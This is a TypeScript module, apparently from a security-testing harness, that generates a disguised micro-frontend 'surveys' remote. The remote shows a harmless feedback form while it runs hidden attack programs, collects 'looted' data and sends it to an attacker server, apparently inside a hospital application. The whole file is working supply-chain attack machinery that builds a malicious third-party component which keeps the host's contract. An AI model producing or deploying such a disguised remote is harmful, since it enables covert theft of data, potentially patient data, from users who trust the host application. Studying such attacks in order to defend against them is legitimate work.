import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Attacker } from './attacker.ts';
import type { Attack, Programs } from './programs/program.ts';

/** Runs in the browser from its source text: a survey that looks honest and starts its programs when mounted. */
function survey(programs: Programs, server: string, stun: number) {
  const looted: Record<string, string> = {};
  Object.assign(globalThis, { looted });
  const { stringify } = JSON;
  const textOf = (found: unknown) => {
    try {
      return typeof found === 'string' ? found : (stringify(found) ?? '');
    } catch {
      return '';
    }
  };
  const run = (name: string, container: HTMLElement, context: Parameters<typeof mount>[1]) => {
    const own = container.appendChild(document.createElement('div'));
    const loot = (found: unknown) => {
      looted[name] = `${looted[name] ?? ''} ${textOf(found)}`.slice(-200_000);
    };
    const out = `${server}/${encodeURIComponent(name)}`;
    const made = (tag: string, properties?: object) => Object.assign(document.createElement(tag), properties);
    const tools = {
      add: (tag: string, properties?: object) => own.appendChild(made(tag, properties)),
      write: (markup: string) => own.insertAdjacentHTML('beforeend', markup),
      addToHead: (tag: string, properties: object) => void document.head.append(made(tag, properties)),
    };
    const program = programs[name] ?? (() => undefined);
    Promise.resolve()
      .then(() => program({ container: own, context, out, stun, loot, ...tools } as Attack))
      .catch((error) => console.info(`${name}: ${error}`));
  };
  function mount(container: HTMLElement, context: Parameters<Programs[string]>[0]['context']) {
    const form = container.appendChild(document.createElement('div'));
    const button = (name: string, act: () => void) => {
      const made = form.appendChild(document.createElement('button'));
      made.textContent = name;
      made.onclick = act;
    };
    button('Send feedback', async () => {
      await context.submit([{ question: 'triageOption', answer: 4 }]);
      form.replaceChildren();
      form.appendChild(document.createElement('h2')).textContent = 'Thank you for your feedback!';
      button('Done', () => context.done());
    });
    for (const name of Object.keys(programs)) run(name, container, context);
    return { unmount: () => container.replaceChildren() };
  }
  return { contract: 'survey@1', surveys: ['admission', 'discharge', 'ecg', 'blood'], mount };
}

/** Returns the survey as an expression that the browser can evaluate. */
export function surveyModule(programs: Programs, attacker: Attacker): string {
  const sources = Object.entries(programs).map(([name, program]) => `${JSON.stringify(name)}: ${program.toString()}`);
  return `(${survey.toString()})({ ${sources.join(',\n')} }, ${JSON.stringify(attacker.url)}, ${attacker.stunPort})`;
}

/** Writes a surveys remote that keeps its contract and runs these programs, as a third party could build it. */
export async function writeGuest(
  folder: string,
  version: string,
  programs: Programs,
  attacker: Attacker,
): Promise<void> {
  const container = `guest_${version.replaceAll('.', '_')}`;
  const declaration = {
    name: 'surveys',
    version,
    contract: 'survey@1',
    container,
    entry: 'entry.js',
    expose: './survey',
    shared: {},
    locales: ['en', 'fr'],
  };
  await mkdir(folder, { recursive: true });
  await writeFile(join(folder, 'remote.json'), JSON.stringify(declaration));
  await writeFile(
    join(folder, 'entry.js'),
    `globalThis.${container} = { init() {}, get: async () => () => (${surveyModule(programs, attacker)}) };\n`,
  );
}
